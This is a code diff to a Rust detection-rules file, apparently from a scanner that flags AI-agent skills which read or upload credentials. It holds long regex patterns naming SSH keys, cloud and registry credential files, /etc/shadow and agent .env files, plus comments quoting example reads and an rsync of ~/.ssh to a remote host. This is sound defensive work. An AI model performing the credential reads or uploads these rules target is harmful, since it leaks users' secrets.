@@ -43,15 +43,6 @@ macro_rules! agent_home_file {
     };
 }
 
-/// A credential store a read names: SSH keys, cloud, cluster, registry and
-/// package-index logins, password files (`credential-file` and
-/// `key-piped-upload` read the same list).
-macro_rules! credential_store {
-    () => {
-        r"\.ssh(?:/|\\{1,2})(?:id_[a-z0-9_]+(?:[^.a-z0-9_]|$)|\*)|['\x22](?:~/|\$HOME/)?\.ssh/?['\x22]|(?:~|\$HOME|\$\{HOME\})/\.(?:aws|kube|gnupg|docker|azure|ssh)/?(?:\s|$|['\x22);])|['\x22]\.(?:docker|kube)['\x22][^\n]*['\x22]config(?:\.json)?['\x22]|['\x22]\.ssh['\x22][^\n]*['\x22]id_|['\x22]id_(?:rsa|ed25519|ecdsa|dsa)['\x22]|\.aws(?:/|\\{1,2})credentials|\.(?:aws|gem)['\x22][^\n]*['\x22]credentials['\x22]|\.azure['\x22][^\n]*['\x22](?:accessTokens|msal_token_cache)\.(?:json|bin)['\x22]|['\x22]\.(?:aws|gem|kube|docker|gnupg|azure)['\x22]\s*[,/]\s*[a-z_]\w*\s*(?:[),]|$)|\.kube(?:/|\\{1,2})config|\.docker(?:/|\\{1,2})config\.json|\.git-credentials|\.netrc\b|\.pgpass\b|\.npmrc\b|\.pypirc\b|\.gem/credentials\b|gcloud/(?:credentials|application_default|legacy_credentials)|\.azure[/\\](?:accessTokens|msal)|\.config/gh/hosts|['\x22](?:gh|gcloud)['\x22]\s*[,/]\s*['\x22](?:hosts\.ya?ml|credentials\.db|access_tokens\.db|application_default_credentials\.json|legacy_credentials)['\x22]|/etc/shadow\b|\.gnupg/|\.get_(?:frozen_)?credentials\(\)|\.password-store|\.vault-token|com\.vercel\.cli/auth\.json|netlify/config\.json|\.fly/config\.yml|credentials\.tfrc\.json|(?:\.cargo|CARGO_HOME)\}?/credentials|\.supabase/access-token|(?-i:-C)\s*\S+\s(?:[^\n|;&]*\s)?\.(?:ssh|aws|azure|kube|gnupg|docker|config/gcloud)(?:[\s'\x22/]|$)|\.ssh[/\\]\{[^}\n]*\bid_|(?:~|\$HOME|\$\{HOME\})/\.\{[^}\n]*\b(?:ssh|aws|kube|gnupg|docker|azure)\b"
-    };
-}
-
 /// A key of a vendor that takes its keys only in a header (Anthropic,
 /// OpenAI, GitHub, Stripe, AWS) read from the environment in Python, Node
 /// or Ruby: `vendor-key-body` and `vendor-key-query` read where it is put.
@@ -2129,7 +2120,7 @@ pub static RULES: &[Rule] = &[
         // ".config" / "gh" / "hosts.yml"`) are the same files.
         // Batch 58: a brace glob names the keys or the dot-folders as
         // well (`~/.ssh/{id_*,config}`, `~/.{ssh,aws,kube}`).
-        pattern: credential_store!(),
+        pattern: r"\.ssh(?:/|\\{1,2})(?:id_[a-z0-9_]+(?:[^.a-z0-9_]|$)|\*)|['\x22](?:~/|\$HOME/)?\.ssh/?['\x22]|(?:~|\$HOME|\$\{HOME\})/\.(?:aws|kube|gnupg|docker|azure|ssh)/?(?:\s|$|['\x22);])|['\x22]\.(?:docker|kube)['\x22][^\n]*['\x22]config(?:\.json)?['\x22]|['\x22]\.ssh['\x22][^\n]*['\x22]id_|['\x22]id_(?:rsa|ed25519|ecdsa|dsa)['\x22]|\.aws(?:/|\\{1,2})credentials|\.(?:aws|gem)['\x22][^\n]*['\x22]credentials['\x22]|\.azure['\x22][^\n]*['\x22](?:accessTokens|msal_token_cache)\.(?:json|bin)['\x22]|['\x22]\.(?:aws|gem|kube|docker|gnupg|azure)['\x22]\s*[,/]\s*[a-z_]\w*\s*(?:[),]|$)|\.kube(?:/|\\{1,2})config|\.docker(?:/|\\{1,2})config\.json|\.git-credentials|\.netrc\b|\.pgpass\b|\.npmrc\b|\.pypirc\b|\.gem/credentials\b|gcloud/(?:credentials|application_default|legacy_credentials)|\.azure[/\\](?:accessTokens|msal)|\.config/gh/hosts|['\x22](?:gh|gcloud)['\x22]\s*[,/]\s*['\x22](?:hosts\.ya?ml|credentials\.db|access_tokens\.db|application_default_credentials\.json|legacy_credentials)['\x22]|/etc/shadow\b|\.gnupg/|\.get_(?:frozen_)?credentials\(\)|\.password-store|\.vault-token|com\.vercel\.cli/auth\.json|netlify/config\.json|\.fly/config\.yml|credentials\.tfrc\.json|(?:\.cargo|CARGO_HOME)\}?/credentials|\.supabase/access-token|(?-i:-C)\s*\S+\s(?:[^\n|;&]*\s)?\.(?:ssh|aws|azure|kube|gnupg|docker|config/gcloud)(?:[\s'\x22/]|$)|\.ssh[/\\]\{[^}\n]*\bid_|(?:~|\$HOME|\$\{HOME\})/\.\{[^}\n]*\b(?:ssh|aws|kube|gnupg|docker|azure)\b",
         // A key named as an SSH client's identity is used to log in, not read;
         // only where `-i` names a key under home, a Windows one too (batch 32:
         // `rsync -e "ssh -i $KEY" ~/.ssh ~/.aws host:` copies the folders away).
@@ -2161,6 +2152,25 @@ pub static RULES: &[Rule] = &[
         ..Rule::BASE
     },
     Rule {
+        id: "agent-env-read",
+        class: Class::Exfiltration,
+        severity: Severity::High,
+        target: Target::Code,
+        // wild70: the agent's own secrets file printed or read into the
+        // skill (`cat ~/.openclaw/.env`, `open(…"~/.claude/.env")`) puts
+        // its API keys in the conversation or the skill's hands; loading
+        // it into the environment (`load_dotenv`, `source`) or testing
+        // that it exists does not show the keys.
+        pattern: concat!(
+            r"\b(?:cat|type|less|more|head|tail|bat|strings|xxd|base64|Get-Content|gc)\s+(?:-\S+\s+)*['\x22]?(?:~|\$HOME|\$\{HOME\}|%USERPROFILE%|\$env:USERPROFILE)[/\\]{1,2}\.(?:claude|clawdbot|openclaw|moltbot|codex|gemini|cursor)[/\\]{1,2}(?:[\w.-]+[/\\]{1,2})?\.env\b",
+            r"|\b(?:open|readFileSync|readFile|read_text|Get-Content)\b[^\n]*['\x22/\\]\.(?:claude|clawdbot|openclaw|moltbot|codex|gemini|cursor)[/\\]{1,2}(?:[\w.-]+[/\\]{1,2})?\.env['\x22]",
+        ),
+        unless: &[".env.example", ".env.sample", ".env.template"],
+        what: "reads the agent's own secrets file",
+        explain: "Prints or reads the agent's own `.env`, where its API keys live, so they reach the conversation or the skill; a skill that needs a key loads it into the environment: remove the read.",
+        ..Rule::BASE
+    },
+    Rule {
         id: "key-piped-upload",
         class: Class::Exfiltration,
         severity: Severity::High,
@@ -2171,14 +2181,8 @@ pub static RULES: &[Rule] = &[
         // the sender is spelled (`cur\l`, `cu'r'l`, `$C`) and wherever it
         // listens: a listener on this machine that takes private keys is
         // a relay, not a local API called with its own token.
-        pattern: concat!(
-            "(?:",
-            credential_store!(),
-            r")[^\n|]*\|[^\n]*\s(?:(?-i:-d|-F|-T)|--data(?:-binary|-raw|-urlencode)?|--form|--upload-file)[\s=]+['\x22]?(?:\w+=)?@?-(?:['\x22\s;)}|]|$)",
-            r"|://[^\s'\x22]*\$\([^)\n]*(?:",
-            credential_store!(),
-            ")",
-        ),
+        pattern: r"\|[^\n]*\s(?:(?-i:-d|-F|-T)|--data(?:-binary|-raw|-urlencode)?|--form|--upload-file)[\s=]+['\x22]?(?:\w+=)?@?-(?:['\x22\s;)}|]|$)|://[^\s'\x22]*\$\(",
+        confirm: Some(crate::pipedkey::carries_a_key),
         what: "streams a credential file to an uploader",
         explain: "Pipes SSH keys or cloud, git or registry credentials into a command that uploads what it reads, or writes them into a URL; the keys leave the user's control wherever the listener is: remove the skill.",
         ..Rule::BASE
